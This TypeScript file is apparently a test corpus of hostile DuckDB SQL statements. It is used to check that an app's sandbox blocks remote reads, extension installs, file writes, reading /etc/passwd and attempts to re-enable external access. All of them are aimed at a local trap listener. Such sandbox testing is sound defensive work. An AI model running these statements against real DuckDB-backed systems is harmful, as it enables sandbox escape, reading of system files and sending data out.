/**
 * SQL a hostile link, notebook or recipe could carry: every way found to make DuckDB reach
 * another host, install or load an extension, touch the file system or undo the sandbox's
 * settings. Unit tests run it on real DuckDB; the end-to-end test runs it in the app's console
 * while a second server listens for any request.
 */

/** The corpus, aimed at `trap` (an origin such as `http://127.0.0.1:5123`). */
export function hostileStatements(trap: string): string[] {
  const { hostname, port } = new URL(trap);
  return [
    `SELECT * FROM read_csv('${trap}/read_csv.csv')`,
    `SELECT * FROM read_csv_auto('${trap}/read_csv_auto.csv')`,
    `SELECT * FROM read_csv(['${trap}/list1.csv', '${trap}/list2.csv'])`,
    `SELECT * FROM '${trap}/replacement-scan.csv'`,
    `SELECT * FROM sniff_csv('${trap}/sniff.csv')`,
    `SELECT * FROM read_json('${trap}/read_json.json')`,
    `SELECT * FROM read_parquet('${trap}/read_parquet.parquet')`,
    `SELECT * FROM read_text('${trap}/read_text.txt')`,
    `SELECT * FROM read_blob('${trap}/read_blob.bin')`,
    `SELECT * FROM glob('${trap}/*')`,
    `ATTACH '${trap}/attach.duckdb' AS remote`,
    `ATTACH 'https://${hostname}:${port}/attach-https.duckdb' AS remote2 (READ_ONLY)`,
    `INSTALL httpfs`,
    `install httpfs;`,
    `/* a comment first */ LOAD httpfs`,
    `LOAD '${trap}/ext.duckdb_extension'`,
    `FORCE INSTALL httpfs FROM '${trap}'`,
    `SET custom_extension_repository = '${trap}'`,
    `SET enable_external_access = true`,
    `RESET enable_external_access`,
    `SET GLOBAL enable_external_access = true`,
    `PRAGMA enable_external_access = true`,
    `SET allowed_directories = ['${trap}/']`,
    `SET lock_configuration = false`,
    `COPY (SELECT 1 AS a) TO '/tmp/atlas-copy.csv'`,
    `COPY (SELECT 1 AS a) TO '${trap}/copy.csv'`,
    `EXPORT DATABASE '/tmp/atlas-export'`,
    `IMPORT DATABASE '${trap}/import'`,
    `SET VARIABLE target = '${trap}/variable.csv'; SELECT * FROM read_csv(getvariable('target'))`,
    `CREATE OR REPLACE MACRO grab(u) AS TABLE SELECT * FROM read_csv(u); SELECT * FROM grab('${trap}' || '/macro.csv')`,
    `SELECT * FROM read_csv(concat('http://', '${hostname}', ':', '${port}', '/concat.csv'))`,
    `SELECT * FROM read_csv('/etc/passwd')`,
  ];
}
